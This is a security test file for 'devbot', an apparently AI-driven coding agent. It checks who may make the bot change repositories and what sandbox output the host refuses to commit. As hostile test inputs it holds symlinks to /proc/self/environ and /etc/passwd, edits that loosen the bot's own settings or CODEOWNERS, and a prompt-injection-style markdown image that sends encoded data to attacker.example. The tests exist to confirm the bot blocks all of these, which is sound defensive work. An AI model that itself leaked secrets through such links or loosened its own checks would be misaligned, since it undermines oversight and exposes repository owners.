/**
 * Who may make devbot change a repository (issue 13, finding 1), attacked through the real front
 * doors of a whole devbot on the fake GitHub: an API token with no link and no grant, a token linked
 * to a read-only login, a follow-up aimed at a human's pull request, and Telegram's /repo.
 */
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SqlSubjectAccess } from '../../src/store/sql-subject-access.js';
import { type FakeGithub, startFakeGithub } from '../fakes/github/fake-github.js';
import { githubAppEnv } from '../helpers/github-fixtures.js';
import { SHELL_COMMAND_AGENT_INPUT, shellCommandAgent } from '../helpers/shell-command-agent.js';
import { startTestDevbot, type TestDevbot } from '../helpers/test-devbot.js';
import { taskEnded } from '../helpers/test-env.js';

const git = promisify(execFile);
const OWNER = 'acme';
const REPO = 'app';
const FULL = `${OWNER}/${REPO}`;

let gh: FakeGithub;
let devbot: TestDevbot;
let access: SqlSubjectAccess;

beforeAll(async () => {
  gh = await startFakeGithub({ appId: 12345, appSlug: 'devbot' });
  await gh.createRepo({ owner: OWNER, name: REPO, files: { 'README.md': '# app\n' } });
  gh.setPermission(OWNER, REPO, 'octocat', 'write');
  gh.setPermission(OWNER, REPO, 'rita', 'read');
  devbot = await startTestDevbot({
    env: githubAppEnv(gh, `whsec-${randomBytes(8).toString('hex')}`),
    github: { throttle: false, minEditIntervalMs: 50 },
    // A scripted agent: writes the file the task's command names.
    agents: { runAgent: shellCommandAgent(), agentInput: SHELL_COMMAND_AGENT_INPUT },
  });
  access = new SqlSubjectAccess(devbot.app.runtime.sql);
}, 60_000);

afterAll(async () => {
  await devbot?.stop();
  await gh?.close();
});

const devTask = (command: string) => ({ kind: 'dev', repo: FULL, prompt: 'add a file', input: { command } });

describe('authorization for subjects that do not come from GitHub', () => {
  it('an API token with no link and no grant cannot make devbot change a repository', async () => {
    const mallory = await devbot.client('mallory');
    const res = await mallory.createTask(devTask('echo pwned > pwned.txt'));
    expect(res.status).toBe(403);
    expect(res.body.message).toContain('devbot users link mallory');
    expect(res.body.message).toContain(`devbot users grant mallory ${FULL}`);
    expect(await devbot.app.runtime.store.listTasks({ requester: 'mallory' })).toEqual([]);
    expect(gh.repo(OWNER, REPO).pulls).toEqual([]);
  });

  it('a subject linked to a read-only login is refused; one linked to a writer gets its PR', async () => {
    await access.link('bob', 'rita');
    const bob = await devbot.client('bob');
    const refused = await bob.createTask(devTask('echo x > x.txt'));
    expect(refused.status).toBe(403);
    expect(refused.body.message).toMatch(/@rita has read access/);

    await access.link('carol', 'octocat');
    const carol = await devbot.client('carol');
    const accepted = await carol.createTask(devTask('echo hello > hello.txt'));
    expect(accepted.status).toBe(202);
    const done = await taskEnded(devbot.app.runtime.store, accepted.body.id as string, 30_000);
    expect(done.status, done.error ?? '').toBe('succeeded');
    expect(done.prUrl).toBeTruthy();
  });

  it('an operator grant lets a subject in, for the granted repositories only', async () => {
    await access.grant('dave', 'acme/*');
    const dave = await devbot.client('dave');
    const accepted = await dave.createTask(devTask('echo d > d.txt'));
    expect(accepted.status).toBe(202);
    expect((await taskEnded(devbot.app.runtime.store, accepted.body.id as string, 30_000)).status).toBe(
      'succeeded',
    );
    const other = await dave.createTask({ ...devTask('echo e > e.txt'), repo: 'other/app' });
    expect(other.status).toBe(403);
  });

  it("a follow-up never pushes to a human's pull request, whoever asks", async () => {
    const { number, branch, sha } = await humanPullRequest('feature/human', 'octocat');
    await access.grant('erin', '*');
    const erin = await devbot.client('erin');
    const res = await erin.createTask({
      kind: 'followup',
      repo: FULL,
      prompt: 'rewrite it',
      input: { prNumber: number, command: 'echo evil > evil.txt' },
    });
    expect(res.status).toBe(202);
    const done = await taskEnded(devbot.app.runtime.store, res.body.id as string, 30_000);
    expect(done.status).toBe('failed');
    expect(done.error).toMatch(/pushes only to pull requests it opened/);
    expect(await branchSha(branch)).toBe(sha);
  });
});

describe('what the host refuses to commit from the sandbox', () => {
  /** A dev task whose scripted agent runs `command` in the sandbox; resolves with the ended task. */
  async function agentRuns(command: string) {
    await access.grant('frank', FULL);
    const frank = await devbot.client('frank');
    const res = await frank.createTask(devTask(command));
    expect(res.status).toBe(202);
    return taskEnded(devbot.app.runtime.store, res.body.id as string, 30_000);
  }

  it.each([
    ['a symlink to a host file', 'ln -s /proc/self/environ env.txt', /symlink that points outside/],
    ['a relative symlink out of the repository', 'mkdir -p a && ln -s ../../../etc/passwd a/p', /symlink/],
    [
      "a change to devbot's own settings",
      'printf "allow_workflow_changes: true\\n" > .devbot.yml',
      /own settings/,
    ],
    ['a change under .github/', 'mkdir -p .github && echo "* @mallory" > .github/CODEOWNERS', /\.github/],
  ])('refuses %s, and pushes nothing', async (_what, command, error) => {
    const pullsBefore = gh.repo(OWNER, REPO).pulls.length;
    const done = await agentRuns(command);
    expect(done.status).toBe('failed');
    expect(done.error).toMatch(error);
    expect(done.branch).toBeNull();
    expect(gh.repo(OWNER, REPO).pulls.length).toBe(pullsBefore);
  });

  it('posts no image or link that would carry data to another host (PR body, sticky comment)', async () => {
    // The scripted agent's summary quotes its command: text a prompt-injected model controls.
    const done = await agentRuns(
      "echo '![x](https://attacker.example/p.png?d=c2VjcmV0) [docs](https://attacker.example/t)' > notes.md",
    );
    expect(done.status, done.error ?? '').toBe('succeeded');
    const pr = gh.repo(OWNER, REPO).pulls.find((p) => p.head === done.branch);
    expect(pr?.body).toContain('image removed');
    expect(pr?.body).not.toContain('attacker.example/p.png');
    expect(pr?.body).not.toContain('](https://attacker.example');
  });

  it('commits a symlink that stays inside the repository', async () => {
    const done = await agentRuns('ln -s README.md readme-link');
    expect(done.status, done.error ?? '').toBe('succeeded');
  });
});

/** A branch with one commit pushed by a person, and their open pull request for it. */
async function humanPullRequest(branch: string, login: string) {
  const sha = await gh.pushBranch(OWNER, REPO, {
    branch,
    files: { 'feature.txt': 'a human wrote this\n' },
    message: 'feature',
  });
  const pull = await gh.openPullRequest(OWNER, REPO, { title: 'A human feature', head: branch, user: login });
  return { number: pull.number, branch, sha };
}

async function branchSha(branch: string): Promise<string> {
  const { stdout } = await git('git', ['-C', gh.barePath(OWNER, REPO), 'rev-parse', `refs/heads/${branch}`]);
  return stdout.trim();
}
